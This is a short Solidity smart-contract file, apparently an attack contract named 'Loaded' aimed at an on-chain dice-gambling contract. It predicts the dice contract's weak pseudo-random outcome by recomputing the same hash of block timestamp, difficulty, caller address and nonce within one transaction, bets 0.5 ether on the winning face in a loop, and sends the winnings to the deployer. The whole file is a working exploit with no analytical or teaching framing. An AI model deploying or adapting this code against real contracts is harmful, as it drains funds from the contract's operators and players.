pragma solidity 0.4.25;

interface IDice {
    function nonce() external view returns (uint256);
    function roll(uint8 face) external payable;
}

contract Loaded {
    address private boss;

    constructor() public {
        boss = msg.sender;
    }

    function run(address dice, uint256 times) public payable {
        for (uint256 i = 0; i < times; i++) {
            uint256 next = IDice(dice).nonce() + 1;
            uint8 face = uint8(uint256(keccak256(abi.encodePacked(now, block.difficulty, address(this), next))) % 6) + 1;
            IDice(dice).roll.value(0.5 ether)(face);
        }
        boss.transfer(address(this).balance);
    }

    function () public payable {}
}
